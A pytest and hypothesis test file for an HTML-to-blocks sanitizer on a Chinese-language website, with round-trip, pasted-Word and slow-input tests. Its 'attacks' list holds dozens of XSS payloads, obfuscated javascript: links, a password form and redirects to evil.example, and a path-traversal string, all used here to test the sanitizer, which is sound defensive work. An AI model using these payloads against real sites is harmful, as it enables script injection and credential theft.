"""Folding of HTML to blocks and back; the blocks themselves are in test_blocks.py."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment, FileSystemLoader
from lxml import html

from hub.domain.blocks import check
from hub.domain.errors import Invalid
from hub.domain.fold import LARGEST, fold
from hub.domain.runs import MARKS, is_link
from tests.ending import must_end

TEMPLATES = Path(__file__).parents[2] / "hub" / "templates"
MACROS = Environment(autoescape=True, loader=FileSystemLoader(TEMPLATES)).get_template("parts/blocks.html").module
SHA, OTHER = "a" * 64, "b" * 64


def render(blocks: list[dict[str, object]]) -> str:
    return str(MACROS.blocks(blocks))  # type: ignore[attr-defined]


def p(*runs: dict[str, object], **more: object) -> dict[str, object]:
    return {"kind": "p", "runs": list(runs), **more}


# ---- the way there and back

TEXT = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=20),
    st.text(st.sampled_from("供热 \u3000\n\r\t\xa0<>&\"'{}%#水e\u0301\u200b\ufeff"), max_size=20),
)
LINKS = st.sampled_from(
    ["https://www.yunchuan.example/a?b=1&c=<".removesuffix("<"), "http://云川.example/通知?x=%22", ""]
)
RUN = st.fixed_dictionaries(
    {"text": TEXT}, optional={"marks": st.lists(st.sampled_from(MARKS), max_size=5), "link": LINKS}
)
RUNS = st.lists(RUN, max_size=4)
MEDIA = st.sampled_from([SHA, OTHER, "0123456789abcdef" * 4])
PICTURE = st.fixed_dictionaries({"media": MEDIA}, optional={"alt": TEXT, "caption": TEXT, "source": TEXT})
CELL = st.fixed_dictionaries(
    {"runs": RUNS}, optional={"head": st.booleans(), "colspan": st.integers(1, 60), "rowspan": st.integers(1, 60)}
)
NAMED = TEXT.map(lambda text: "名" + text)


def of(
    kind: str, needed: dict[str, object], optional: dict[str, object] | None = None
) -> st.SearchStrategy[dict[str, object]]:
    return st.fixed_dictionaries({"kind": st.just(kind), **needed}, optional=optional or {})  # type: ignore[arg-type]


BLOCK = st.one_of(
    st.sampled_from(["h2", "h3", "quote", "note"]).flatmap(lambda kind: of(kind, {"runs": RUNS})),
    of(
        "p",
        {"runs": RUNS},
        {
            "align": st.sampled_from(["", "center", "end"]),
            "role": st.sampled_from(["", "salutation", "lead", "signature"]),
        },
    ),
    st.sampled_from(["ul", "ol"]).flatmap(lambda kind: of(kind, {"items": st.lists(RUNS, max_size=4)})),
    PICTURE.map(lambda picture: {"kind": "img", **picture}),
    of("images", {"items": st.lists(PICTURE, min_size=2, max_size=9)}),
    of("table", {"rows": st.lists(st.lists(CELL, max_size=4), max_size=4)}, {"caption": TEXT}),
    of("video", {"media": MEDIA}, {"cover": MEDIA, "caption": TEXT}),
    of("video", {"link": st.just("https://video.example/v?a=1&b=2")}, {"cover": MEDIA, "caption": TEXT}),
    of("file", {"media": MEDIA, "name": NAMED}),
    of("footnote", {"mark": NAMED, "runs": RUNS}),
    of("hr", {}),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(BLOCK, max_size=5))
def test_what_is_rendered_folds_back_to_the_same_blocks_and_nothing_is_said_to_be_dropped(
    blocks: list[dict[str, object]],
) -> None:
    blocks = check(blocks)
    folded = fold(render(blocks))
    assert folded.blocks == blocks
    assert folded.dropped == []


# ---- attacks

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">点</a>',
    '<a href="jav\tascript:alert(1)">点</a>',
    '<a href="JaVaScRiPt:alert(1)">点</a>',
    '<a href="&#106;avascript:alert(1)">点</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">点</a>',
    '<a href="//evil.example">点</a>',
    '<a href="\\\\evil.example">点</a>',
    '<a href="https://user@evil.example/">点</a>',
    "<a href='https://a.example/\" onclick=\"alert(1)'>点</a>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<p style="background:url(javascript:alert(1))">点</p>',
    '<div data-block="file"><a href="/media/../../etc/passwd">件</a></div>',
    '<img src="/media/' + SHA + '?x=" onerror="alert(1)">',
    '<img src="/media/' + SHA + "\" alt='\"><script>alert(1)</script>'>",
    '<figure data-block="video"><a data-part="video" href="javascript:alert(1)">看</a></figure>',
    '<table><tr><td><script>alert(1)</script><td colspan="9999999999">格</table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</script><script>alert(1)</script>",
    "<p>{{ 7*7 }}{% raw %}</p>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    '<aside data-block="footnote"><span data-part="mark"><script>1</script></span></aside>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<div>" * 3000 + "深" + "</div>" * 3000,
    "<b>" * 3000 + "深",
    "<ul><li>" * 500 + "深",
    "<table><tr><td>" * 300 + "深",
]
ALLOWED = {"src", "alt", "loading", "href", "rel", "data-block", "data-part", "data-role", "data-align", "class",
           "scope",            "colspan", "rowspan", "controls", "preload", "poster", "download"}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_text_leaves_no_markup_of_its_own(attack: str) -> None:
    folded = fold(attack)
    page = html.fragment_fromstring(render(folded.blocks), create_parent="div")
    for element in page.iter():
        assert element.tag not in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "math",
            "base",
            "meta",
            "link",
        )
        assert set(element.attrib) <= ALLOWED
        for name in ("href", "src", "poster"):
            if address := element.get(name):
                assert is_link(address) or address.removeprefix("/media/") in (SHA,)
    assert fold(render(folded.blocks)).blocks == folded.blocks


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*"<>/=\"' abipud&;#x!-[]\n", "<p>", "<a href=", "<td>", "</table>", "<table>", "<li>", "<br>"]
        ),
        max_size=80,
    ).map("".join)
)
def test_any_soup_of_tags_folds_without_an_error_and_settles_after_one_turn(soup: str) -> None:
    blocks = fold(soup).blocks
    assert fold(render(blocks)).blocks == blocks


def test_far_too_much_html_is_refused_with_a_sentence() -> None:
    with pytest.raises(Invalid, match="太大"):
        fold("<" * (LARGEST + 1))


# ---- what people paste

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>停水</title>
<style>p{color:red}</style></head><body>
<!--StartFragment--><h1 style="font-size:22pt">关于临江区停水的通知</h1>
<p class=MsoNormal align=center style='text-align:center'><b><span style='font-family:宋体;color:red'>各位
居民：</span></b></p>
<p class=MsoNormal>因管道检修，<span style="font-weight:bold">11月26日</span>停水&nbsp;8 小时。<o:p></o:p></p>
<p class=MsoNormal style='text-align:right'>云川市水务局</p>
<table border=1><tr><td>街道</td><td>时段</td></tr><tr><td colspan=2>北苑街道</td></tr></table>
<!--EndFragment--></body></html>"""


def test_a_text_from_word_keeps_its_structure_and_says_that_fonts_and_colours_went() -> None:
    folded = fold(WORD)
    assert folded.blocks == [
        {"kind": "h2", "runs": [{"text": "关于临江区停水的通知"}]},
        p({"text": "各位居民：", "marks": ["bold"]}, align="center"),
        p({"text": "因管道检修，"}, {"text": "11月26日", "marks": ["bold"]}, {"text": "停水 8 小时。"}),
        p({"text": "云川市水务局"}, align="end"),
        {
            "kind": "table",
            "rows": [
                [{"runs": [{"text": "街道"}]}, {"runs": [{"text": "时段"}]}],
                [{"runs": [{"text": "北苑街道"}], "colspan": 2}],
            ],
        },
    ]
    assert folded.dropped == ["字体、字号和颜色由网站统一决定，已去掉。"]


def test_text_outside_paragraphs_and_unknown_tags_keep_their_words() -> None:
    folded = fold("开头<blink>闪<b>烁</b></blink><p>段</p>结尾")
    assert folded.blocks == [
        p({"text": "开头闪"}, {"text": "烁", "marks": ["bold"]}),
        p({"text": "段"}),
        p({"text": "结尾"}),
    ]


def test_a_picture_inside_a_paragraph_stands_between_the_two_halves_of_its_text() -> None:
    folded = fold(f'<p>前<img src="/media/{SHA}" alt="图">后</p>')
    assert folded.blocks == [p({"text": "前"}), {"kind": "img", "media": SHA, "alt": "图"}, p({"text": "后"})]


def test_a_picture_from_elsewhere_is_left_out_and_the_writer_is_told_what_to_do() -> None:
    folded = fold('<p>看图<img src="https://other.example/1.jpg"><img src="data:image/png;base64,AAAA"></p>')
    assert folded.blocks == [p({"text": "看图"})]
    assert folded.dropped == ["有图片不在媒体库里，已去掉。请先上传，再插入。"]


def test_a_bad_link_keeps_its_words_and_is_told_while_an_anchor_is_silent() -> None:
    folded = fold('<p><a name="_Toc1"></a>见<a href="/inner">附页</a></p>')
    assert folded.blocks == [p({"text": "见附页"})]
    assert folded.dropped == ["有的链接不是完整的 http 网址，已去掉链接，文字保留。"]
    assert fold('<p><a name="_Toc1"></a>见</p>').dropped == []


def test_a_link_to_a_stored_file_becomes_a_file_block() -> None:
    assert fold(f'<p><a href="/media/{SHA}">名单.xlsx</a></p>').blocks == [
        {"kind": "file", "media": SHA, "name": "名单.xlsx"}
    ]


def test_an_empty_line_inside_a_paragraph_parts_it_in_two() -> None:
    assert fold("<p>上<br><br>下<br>行</p>").blocks == [p({"text": "上"}), p({"text": "下\n行"})]


def test_nested_lists_become_one_list_in_order_and_this_is_said() -> None:
    folded = fold("<ol><li>一<ul><li>一之一</li></ul></li><li>二</li></ol>")
    assert folded.blocks == [{"kind": "ol", "items": [[{"text": "一"}], [{"text": "一之一"}], [{"text": "二"}]]}]
    assert folded.dropped == ["多层列表已展开成一层。"]


def test_things_the_blocks_do_not_know_are_named_in_chinese() -> None:
    dropped = fold("<iframe src=https://a.example></iframe><p><del>旧</del>新</p><script>1</script>").dropped
    assert any("嵌入的网页" in sentence for sentence in dropped)
    assert any("删除线" in sentence for sentence in dropped)
    assert any("脚本" in sentence for sentence in dropped)


def test_the_editors_own_video_element_is_read() -> None:
    wang = f'<div data-w-e-type="video"><video poster="" controls="true"><source src="/media/{SHA}"/></video></div>'
    assert fold(wang).blocks == [{"kind": "video", "media": SHA}]


def test_other_prefixes_can_be_rendered_for_the_public_site() -> None:
    page = str(MACROS.blocks([{"kind": "img", "media": SHA}], "/files/"))  # type: ignore[attr-defined]
    assert f'src="/files/{SHA}"' in page


SLOW = {
    "wide blanks": "中" + "\u3000" * 100_000 + "中",
    "blanks": "中" + " " * 100_000,
    "line breaks": "中" + "\n" * 100_000 + "a",
    "styles": "style=" * 16_000,
    "angles": "<" * 100_000,
    "ampersands": "&" * 100_000,
    "breaks": "<br>" * 25_000 + "末",
    "runs": "<i>x</i>" * 12_000,
    "same runs": "<i>x</i><i>y</i>" * 6_000,
    "lists": "<ul><li>x" * 6_000,
    "cells": "<table><tr>" + "<td>x" * 50 + "</table>" * 9_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_100_kb_of_the_worst_html_is_folded_to_its_end(name: str) -> None:
    with must_end():
        fold(SLOW[name])
